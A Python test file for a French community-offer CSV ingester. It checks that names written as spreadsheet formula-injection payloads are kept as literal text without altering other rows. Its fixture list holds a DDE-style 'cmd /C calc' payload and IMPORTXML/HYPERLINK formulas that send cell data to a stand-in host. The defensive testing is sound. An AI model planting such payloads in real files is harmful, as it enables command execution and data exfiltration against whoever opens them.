"""Hostile local offer rows beside good ones (issue 15, trial « formula injection »), at reader level:
the hostile names are kept exactly as written (the writers for people neutralise them, see
``tests/unit/test_rapport_classeur.py``) and every row read without the hostile file is read identically
with it: nothing lost, nothing altered. No build."""

from __future__ import annotations

import shutil
from pathlib import Path

import pandas as pd

from ingest.offre import local

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "offre"
DATA = FIXTURES / "data"  # holds the v1 referentiels
HEADER = (
    (Path(__file__).resolve().parents[2] / "templates" / "offre_locale.csv")
    .read_text(encoding="utf-8")
    .splitlines()[0]
)
HOSTILE = [
    '=HYPERLINK("http://exemple.invalid/x","Cliquez ici")',
    "=1+1",
    '=IMPORTXML(CONCAT("http://exemple.invalid/?",A1),"//a")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+33 1 48 30 20 11 bis",
    "-2+3",
]


def _row(i: int, nom: str) -> str:
    nom = '"' + nom.replace('"', '""') + '"'
    return (
        f"HOST-{i};{nom};;ASSO;;;;equipement-et-alimentation--alimentation;;familles;gratuit;en-presentiel;;"
        f"93008;93000;Bobigny;{i} rue de l'Essai;;;;essai de robustesse;2025-01-15"
    )


def _read(inbox: Path):
    structures, services = local.read_local_inbox(inbox, DATA)
    return structures, services


def test_formula_like_names_are_kept_as_text_and_the_other_rows_unchanged(tmp_path):
    baseline = tmp_path / "avant"
    shutil.copytree(FIXTURES / "local", baseline)
    trial = tmp_path / "apres"
    shutil.copytree(FIXTURES / "local", trial)
    lines = [HEADER, *(_row(i, nom) for i, nom in enumerate(HOSTILE, start=1))]
    (trial / "93" / "offre_locale" / "hostile.csv").write_text("\n".join(lines) + "\n", encoding="utf-8")

    before_s, before_v = _read(baseline)
    after_s, after_v = _read(trial)

    hostile = after_s.frame[after_s.frame["fichier"] == "hostile.csv"]
    assert sorted(hostile["nom"]) == sorted(HOSTILE)  # kept exactly as written, not evaluated nor cut
    assert [q for q in after_s.quarantine if Path(q.source_file).name == "hostile.csv"] == []
    for before, after in ((before_s, after_s), (before_v, after_v)):
        kept = after.frame[after.frame["fichier"] != "hostile.csv"].reset_index(drop=True)
        pd.testing.assert_frame_equal(kept, before.frame.reset_index(drop=True), check_exact=True)
        assert [(q.source_file.split("/")[-1], q.line, q.field, q.reason) for q in before.quarantine] == [
            (q.source_file.split("/")[-1], q.line, q.field, q.reason) for q in after.quarantine
        ]
